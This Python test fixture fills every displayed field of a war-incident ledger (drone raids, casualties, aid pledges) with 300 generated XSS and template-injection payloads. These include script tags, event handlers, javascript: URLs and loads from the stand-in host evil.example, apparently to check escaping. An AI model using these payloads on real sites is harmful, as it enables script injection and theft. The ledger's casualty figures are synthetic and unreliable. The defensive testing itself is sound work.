"""A ledger in which every field that a page shows holds what would run if it were taken for markup."""

from __future__ import annotations

import hashlib
from collections.abc import Sequence
from itertools import product
from pathlib import Path

from firstlight.custody import entry_hash
from firstlight.model import (
    Aside,
    Capture,
    Count,
    Damage,
    Decision,
    Dispute,
    Harm,
    Incident,
    LedgerState,
    Link,
    Meeting,
    Object,
    Package,
    PackageStep,
    Place,
    Quote,
    Raid,
    RaidLine,
    Report,
    Rival,
    Speaker,
    Statement,
    Supply,
    Value,
    Weapon,
    When,
)
from firstlight.store import Store, Work

AT = "2024-03-28T06:00:00+00:00"
NIGHT = "2024-03-28"
BEHIND = 10  # reports behind one attack
OPENERS = (
    "", '">', "'>", "-->", "]]>", "</title>", "</textarea>", "</script>", "</style>", "</option></select>",
)  # fmt: skip
BODIES = (
    "<script>hit({n})</script>", "<ScRiPt src=//evil.example/{n}></sCrIpT>", "<img src=x onerror=hit({n})>",
    "<svg/onload=hit({n})>", "<svg><script>hit({n})</script></svg>", "<body onload=hit({n})>",
    "<iframe srcdoc='<script>parent.hit({n})</script>'></iframe>", "<a href=javascript:hit({n})>x</a>",
    "javascript:hit({n})//", "data:text/html,<script>hit({n})</script>", "\" autofocus onfocus=hit({n}) x=\"",
    "' onmouseover=hit({n}) style='position:fixed;inset:0' x='", "<style>@import '//evil.example/{n}';</style>",
    "<link rel=stylesheet href=//evil.example/{n}>", "<meta http-equiv=refresh content='0;url=//evil.example/{n}'>",
    "<base href=//evil.example/{n}/>", "<form action=//evil.example/{n}><button autofocus>x</button></form>",
    "<object data=//evil.example/{n}></object>", "<embed src=//evil.example/{n}>",
    "<video src=x onerror=hit({n}) autoplay></video>", "<details open ontoggle=hit({n})>x</details>",
    "<input autofocus onfocus=hit({n})>", "<math><mi xlink:href=javascript:hit({n})>x</mi></math>",
    "&lt;script&gt;hit({n})&lt;/script&gt;", "<scr<script>ipt>hit({n})</scr</script>ipt>",
    "{{{{ [].__class__.__base__.__subclasses__() }}}} hit({n})", "{{% include '/etc/passwd' %}} hit({n})",
    "\u202e<img src=//evil.example/{n}>", "<noscript><p title=\"</noscript><img src=x onerror=hit({n})>\">",
    "<template><img src=//evil.example/{n}></template><portal src=//evil.example/{n}>",
)  # fmt: skip
FIELDS = (
    "report.source", "report.title", "report.address", "report.locator", "report.view", "report.encoding",
    "report.text", "capture.origin", "capture.collector", "speaker.name", "object.name", "place.name", "meeting.body",
    "statement.reader", "supply.item", "supply.donor", "link.reason", "value.rule", "rival.reason", "dispute.chosen",
    "raid.sources", "weapon.model", "decision.reason", "decision.author", "aside.reason",
)  # fmt: skip


def payloads() -> list[str]:
    """Three hundred texts; the number in each says which it is."""
    return [opener + body.format(n=n) for n, (opener, body) in enumerate(product(OPENERS, BODIES))]


def write(folder: Path, texts: Sequence[str]) -> None:
    """A ledger with each of the texts in each of FIELDS."""
    work = Work(who="tester", what="test", why="hostile", at=AT, inputs="")
    state = LedgerState()
    with Store(folder, chain=entry_hash, gate=lambda statement, report: None, create=True) as store:
        for at in range(0, len(texts), BEHIND):
            with store.unit(work) as unit:
                made: list[Statement] = []
                for number, text in enumerate(texts[at : at + BEHIND], start=at):
                    report, capture, data, said = _report(number, text)
                    unit.capture(capture, data)
                    unit.report(report, report.id)
                    unit.reading(report, (said[0].reader, "catalogue"), said, ())
                    made += said
                state = _derived(state, at // BEHIND, texts[at : at + BEHIND], made)
        with store.unit(work) as unit:
            for number, text in enumerate(texts):
                unit.decision(
                    Decision(
                        id=f"de:{number}",
                        verb="accept",
                        statements=(f"st:{number}-0",),
                        reason=text,
                        author=text,
                        decided_at=AT,
                    )
                )
            unit.state({"": state})
            unit.seal(())


def _report(number: int, text: str) -> tuple[Report, Capture, bytes, list[Statement]]:
    body = f"Overnight {text} was told. 3 people were killed. Help was promised."
    data = f"{number} {body}".encode()
    sha256 = hashlib.sha256(data).hexdigest()
    capture = Capture(
        sha256=sha256, size=len(data), media="html", origin=f"{text} {number}", collected_at=AT, collector=text
    )
    report = Report(
        id=f"sha256:{sha256}", capture=sha256, locator=text, source=text, address=text, title=text, published=AT,
        language="en", text=body, view=text, encoding=text, marks=("hidden", text),
    )  # fmt: skip
    place = Place(name=text, kind="settlement", oblast="UA-63", lat=50.0 + number / 1000, lon=36.0)
    speaker = Speaker(name=text, kind="official")
    supply = Supply(item=text, status="pledged", donor=(text,), recipient=("UA",))
    kinds = (
        {"kind": "launched", "weapon": Weapon(class_="drone", model=text), "count": Count(low=3, high=3, form="exact")},
        {"kind": "damaged", "object": Object(class_="school", name=text, state="destroyed")},
        {"kind": "meeting", "meeting": Meeting(body=text)},
        {"kind": "supply", "supply": supply},
    )  # fmt: skip
    quote = Quote(text=text, start=10, end=10 + len(text))
    said = [
        Statement(
            id=f"st:{number}-{n}", report=report.id, quote=quote, places=(place,), speaker=speaker,
            reader=f"{text} {number}", **kind,  # type: ignore[arg-type]
        )
        for n, kind in enumerate(kinds)
    ]  # fmt: skip
    return report, capture, data, said


def _derived(state: LedgerState, number: int, texts: Sequence[str], said: Sequence[Statement]) -> LedgerState:
    text, keys = texts[0], tuple(one.id for one in said)
    links = tuple(Link(statement=one.id, score=0.5, reason=one.quote.text) for one in said)
    rivals = tuple(Rival(low=4, high=5, statements=keys[1:2], reason=rival) for rival in texts)
    value = Value(state="known", low=3, best=3, high=5, rule=text, statements=keys[:1], rivals=rivals)
    lines = tuple(
        RaidLine(weapon=Weapon(class_="drone", model=one), group="drone", launched=value, intercepted=value)
        for one in texts
    )
    period = When(start=f"{NIGHT}T00:00:00+02:00", end=f"{NIGHT}T06:00:00+02:00", precision="hour")
    raid = Raid(
        id=f"raid-{number:03}", attacker="RU", target="UA", night=NIGHT, period=period, lines=lines, links=links,
        sources=tuple(texts), grade="B2",
    )  # fmt: skip
    places = [one.places[0] for one in said[:: len(said) // len(texts)]]
    incidents = tuple(
        Incident(
            id=f"incident-{number:03}-{at}", attacker="RU", day=NIGHT, period=period, place=place, raid=raid.id,
            harm=(Harm(kind="killed", group=None, count=value, history=((AT, 3, 3, keys[0]),)),),
            damage=(Damage(object=Object(class_="school", name=one), count=value, statements=keys[:1]),),
            links=links[:4], sources=(one,), grade="C3",
        )
        for at, (one, place) in enumerate(zip(texts, places, strict=True))
    )  # fmt: skip
    packages = tuple(
        Package(
            id=f"package-{number:03}-{at}", item=one, donor=(one,), recipient=(one,), quantity=value,
            steps=(PackageStep(status="pledged", said=NIGHT, statement=keys[0]),), latest="pledged", links=links[:4],
        )
        for at, one in enumerate(texts)
    )  # fmt: skip
    disputes = tuple(Dispute(about=raid.id, what=one, values=rivals[:2], chosen=one) for one in texts)
    asides = tuple(Aside(statement=key, reason=one) for key, one in zip(keys, texts, strict=False))
    return LedgerState(
        raids=(*state.raids, raid),
        incidents=(*state.incidents, *incidents),
        packages=(*state.packages, *packages),
        disputes=(*state.disputes, *disputes),
        asides=(*state.asides, *asides),
    )
